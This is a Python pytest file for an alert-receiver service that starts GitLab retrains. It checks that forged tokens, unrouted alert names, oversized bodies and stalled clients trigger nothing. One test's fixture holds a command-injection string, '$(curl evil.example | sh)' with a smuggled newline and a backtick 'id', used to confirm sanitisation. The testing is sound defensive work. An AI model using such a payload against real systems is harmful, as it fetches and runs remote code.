"""Attacks on the alert receiver (issue 18.5, 18.3): whoever reaches it could start a retrain (which also lets drift
through the gate) or suppress a real alert by starting the cooldown first.

A real ``forkcast-alert-receiver`` process with a webhook token file, a GitLab trigger token file and a stand-in
GitLab (a loopback HTTP server that records every trigger call: GitLab itself cannot run here). Each forged call is
refused for its reason, counted under its outcome, and reaches GitLab zero times; the genuine alert sent afterwards,
with the same fingerprint, still triggers exactly once, which proves no forged call started the cooldown or marked
the fingerprint seen.
"""

from __future__ import annotations

import os
import socket
import sys
import threading
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import requests

from forkcast_contract import metric_names as n
from forkcast_devservers.ports import free_port
from forkcast_devservers.process import spawn, stop
from forkcast_devservers.ready import http_ok, wait_until
from forkcast_monitoring.testing import metric_sample

TRIGGERS = n.RETRAIN_TRIGGERS_TOTAL
REQUEST_TIMEOUT_S = 1.0
ALERT = "OnlineAucLow"


@dataclass
class GitLab:
    """The stand-in: the form body of every trigger call, in order."""

    url: str
    calls: list[dict[str, str]] = field(default_factory=list)


@dataclass
class Receiver:
    url: str
    port: int
    token: str
    gitlab: GitLab
    metrics_url: str  # its own port: the webhook port serves no /metrics (issue 18.5)

    def post(self, payload: Any, authorization: str | None) -> requests.Response:
        headers = {} if authorization is None else {"authorization": authorization}
        return requests.post(f"{self.url}/alerts", json=payload, headers=headers, timeout=5)

    def count(self, outcome: str) -> float:
        text = requests.get(f"{self.metrics_url}/metrics", timeout=5).text
        return metric_sample(text, TRIGGERS, outcome=outcome)


@pytest.fixture
def receiver(tmp_path: Path) -> Iterator[Receiver]:
    gitlab = GitLab("")

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"])).decode()
            gitlab.calls.append(dict(urllib.parse.parse_qsl(body)) | {"path": self.path})
            self.send_response(201)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"{}")

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    gitlab.url = f"http://127.0.0.1:{server.server_address[1]}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    webhook_token, trigger_token = "wh-" + os.urandom(16).hex(), "tr-" + os.urandom(16).hex()
    (tmp_path / "webhook-token").write_text(webhook_token + "\n")
    (tmp_path / "trigger-token").write_text(trigger_token + "\n")
    port, metrics_port = free_port(), free_port()
    argv = [
        str(Path(sys.executable).parent / "forkcast-alert-receiver"),
        "--host", "127.0.0.1", "--port", str(port), "--gitlab-url", gitlab.url, "--project-id", "group/forkcast",
        "--token-file", str(tmp_path / "trigger-token"), "--webhook-token-file", str(tmp_path / "webhook-token"),
        "--cooldown-s", "3600", "--metrics-port", str(metrics_port),
    ]  # fmt: skip
    env = {
        **os.environ,
        "FORKCAST_ENVIRONMENT": "local",
        "FORKCAST_REQUEST_TIMEOUT_S": str(REQUEST_TIMEOUT_S),
    }
    proc = spawn(argv, env=env, log=tmp_path / "receiver.log")
    try:
        url = f"http://127.0.0.1:{port}"
        wait_until(lambda: http_ok(f"{url}/readyz"), timeout_s=30, what="forkcast-alert-receiver", proc=proc)
        yield Receiver(url, port, webhook_token, gitlab, f"http://127.0.0.1:{metrics_port}")
    finally:
        stop(proc)
        server.shutdown()


def alert(name: str = ALERT, fingerprint: str = "fp-auc-low-1", summary: str = "online AUC below 0.6") -> Any:
    return {
        "version": "4",
        "status": "firing",
        "alerts": [
            {
                "status": "firing",
                "fingerprint": fingerprint,
                "labels": {"alertname": name, "severity": "critical"},
                "annotations": {"summary": summary},
            }
        ],
    }


def test_forged_alerts_start_nothing_and_do_not_arm_the_cooldown(receiver: Receiver) -> None:
    """No token, a wrong token, the right token under another scheme, the token with a suffix: each 401, counted
    ``unauthorized``, no trigger call. Then Alertmanager's genuine alert with the same fingerprint triggers once."""
    forged = [
        None,
        "Bearer wrong-token",
        f"Basic {receiver.token}",
        f"Bearer {receiver.token}x",
        receiver.token,
    ]
    for authorization in forged:
        counted = receiver.count("unauthorized")
        r = receiver.post(alert(), authorization)
        assert r.status_code == 401, (authorization, r.status_code)
        assert receiver.count("unauthorized") == counted + 1
    assert receiver.gitlab.calls == []
    genuine = receiver.post(alert(), f"Bearer {receiver.token}")
    assert genuine.status_code == 200
    assert receiver.count("sent") == 1
    assert len(receiver.gitlab.calls) == 1
    call = receiver.gitlab.calls[0]
    assert call["path"] == "/api/v4/projects/group%2Fforkcast/trigger/pipeline"
    assert call["inputs[alert_name]"] == ALERT
    assert not any(k.startswith("variables[") for k in call), call  # no CI variable can be overridden


def test_alert_token_holder_cannot_choose_the_pipeline_inputs(receiver: Receiver) -> None:
    """Even with the webhook token, an alert the AlertmanagerConfig never routes here starts nothing (counted
    ``unknown_alert``), and a summary carrying shell and newlines reaches GitLab only as the characters the CI's
    ``alert_reason`` input allows."""
    token = f"Bearer {receiver.token}"
    r = receiver.post(alert(name="RunMyImage", fingerprint="fp-x"), token)
    assert r.status_code == 200
    assert receiver.count("unknown_alert") == 1
    assert receiver.gitlab.calls == []
    nasty = "AUC low $(curl evil.example | sh)\nRETRAIN_IMAGE=evil:latest; `id`"
    assert receiver.post(alert(fingerprint="fp-y", summary=nasty), token).status_code == 200
    (call,) = receiver.gitlab.calls
    reason = call["inputs[alert_reason]"]
    assert all(c.isalnum() or c in " .,:=_%()-" for c in reason), reason
    assert "$(" not in reason and "\n" not in reason and "`" not in reason


def test_receiver_body_bombs_and_slow_clients(receiver: Receiver) -> None:
    """With a valid token: a chunked body (no length to check) is refused 411, a Content-Length over the cap 413
    before anything is read, a body that stalls is cut after the request timeout; without a token a huge body is
    refused 401 first. Nothing reaches GitLab."""
    token = f"Authorization: Bearer {receiver.token}\r\n"

    def send(head: str, body: bytes = b"", wait_s: float = 5.0) -> tuple[int | None, float]:
        started = time.monotonic()
        with socket.create_connection(("127.0.0.1", receiver.port), timeout=wait_s) as sock:
            sock.sendall(f"POST /alerts HTTP/1.1\r\nHost: x\r\n{head}\r\n".encode() + body)
            data = sock.recv(4096)
        status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else None
        return status, time.monotonic() - started

    assert send(token + "Transfer-Encoding: chunked\r\n", b"10000\r\n" + b"x" * 4096)[0] == 411
    assert send(token + "Content-Length: 1000000000\r\n", b"{")[0] == 413
    assert send("Content-Length: 1000000000\r\n", b"{")[0] == 401
    status, elapsed = send(token + "Content-Length: 100\r\n", b'{"alerts": [', wait_s=REQUEST_TIMEOUT_S + 5)
    assert status in (None, 408), status  # http.server closes a timed-out connection without an answer
    # Under four deadlines (was deadline + 2 s): room for a starved CI machine, still short of the client's own
    # give-up (deadline + 5 s) and of the receiver's default 10 s deadline, so a held connection cannot pass.
    assert REQUEST_TIMEOUT_S <= elapsed < REQUEST_TIMEOUT_S * 4
    assert receiver.count("length_required") == 1 and receiver.count("too_large") == 1
    assert receiver.gitlab.calls == []
    assert receiver.post(alert(), f"Bearer {receiver.token}").status_code == 200  # still serving
